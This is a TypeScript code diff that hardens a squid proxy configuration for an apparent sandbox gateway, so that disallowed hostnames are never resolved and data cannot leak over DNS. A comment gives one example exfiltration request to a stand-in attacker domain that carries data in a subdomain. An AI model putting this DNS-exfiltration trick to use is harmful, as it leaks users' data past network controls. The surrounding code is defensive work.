@@ -9,15 +9,28 @@ export interface GatewayConfigInput {
   blocked: readonly string[];
 }
 
+/** The ACL that matches every allowed domain by name, as asked (see renderSquidConfig). */
+const ALLOWED_NAMES = 'allowed_names';
+
 /**
  * The squid configuration of one gateway. Order matters: the user's explicit address blocks and
- * hosts first (naming an address or the repo's host is a decision), then every blocked range (a name that resolves there is
+ * hosts first (naming an address or the repo's host is a decision), then a refusal of every name
+ * that matches no allowed domain, then every blocked range (an allowed name that resolves there is
  * refused), then the allowed domains, then deny. Nothing is cached; every decision is logged to
  * stdout (`docker logs`), one line per request in the format parseGatewayLog reads.
+ *
+ * No name the box or an install chooses is ever looked up unless it is allowed: a `dst` ACL makes
+ * squid resolve the request's name before it can match, and Docker's resolver forwards a name it
+ * does not know to the host's upstream, so `GET http://<data>.attacker.example/` would carry
+ * `<data>` to the attacker's DNS server even though the request is refused. Hence every ACL is
+ * `-n` (no lookup: a name never matches an address rule, an address never a domain rule) but the
+ * blocked ranges, which are reached by allowed names only. The hostname is fixed too: without it
+ * squid looks its container's name up at start.
  */
 export function renderSquidConfig(input: GatewayConfigInput): string {
   const lines = [
     `http_port ${GATEWAY_PORT}`,
+    'visible_hostname ca-sandbox-gateway',
     'pid_filename /tmp/squid.pid',
     'coredump_dir /tmp',
     'cache deny all',
@@ -36,21 +49,50 @@ export function renderSquidConfig(input: GatewayConfigInput): string {
   ];
   const allowAddresses: string[] = [];
   const allowDomains: string[] = [];
+  const domainNames: string[] = [];
   input.rules.forEach((rule, index) => {
     const name = `r${index}`;
     lines.push(`acl ${name}_ports port ${rule.ports.join(' ')}`);
     if (rule.kind === 'cidr') {
-      lines.push(`acl ${name} dst ${rule.cidr}`);
+      // -n: only a request that names an address in the block matches; a name is never resolved
+      // to see whether it lands there.
+      lines.push(`acl ${name} dst -n ${rule.cidr}`);
       allowAddresses.push(`http_access allow ${name} ${name}_ports`);
     } else {
       // -n: match the name as asked, never by a reverse lookup of an address.
-      lines.push(`acl ${name} dstdomain -n ${rule.subdomains ? '.' : ''}${rule.domain}`);
+      const domain = `${rule.subdomains ? '.' : ''}${rule.domain}`;
+      lines.push(`acl ${name} dstdomain -n ${domain}`);
+      domainNames.push(domain);
       const allow = `http_access allow ${name} ${name}_ports`;
       (rule.resolvesAnywhere ? allowAddresses : allowDomains).push(allow);
     }
   });
-  lines.push(...allowAddresses, 'http_access deny blocked', ...allowDomains, 'http_access deny all');
+  if (domainNames.length === 0) {
+    // No allowed domain: nothing but the address rules may pass, and no name is looked up.
+    lines.push(...allowAddresses, 'http_access deny all');
+  } else {
+    // Every other name is refused before `blocked` could resolve it.
+    lines.push(
+      `acl ${ALLOWED_NAMES} dstdomain -n ${withoutCovered(domainNames).join(' ')}`,
+      ...allowAddresses,
+      `http_access deny !${ALLOWED_NAMES}`,
+      'http_access deny blocked',
+      ...allowDomains,
+      'http_access deny all',
+    );
+  }
   return `${lines.join('\n')}\n`;
+}
+
+/**
+ * squid's domain lists refuse (or warn about, by version) an entry that another one covers:
+ * `example.com` twice, or beside `.example.com`. The union keeps the widest of each.
+ */
+function withoutCovered(domains: readonly string[]): string[] {
+  const unique = [...new Set(domains)];
+  const covers = (wide: string, name: string) =>
+    wide !== name && wide.startsWith('.') && (name === wide.slice(1) || name.endsWith(wide));
+  return unique.filter((name) => !unique.some((wide) => covers(wide, name)));
 }
 
 /** One request the gateway decided on. */
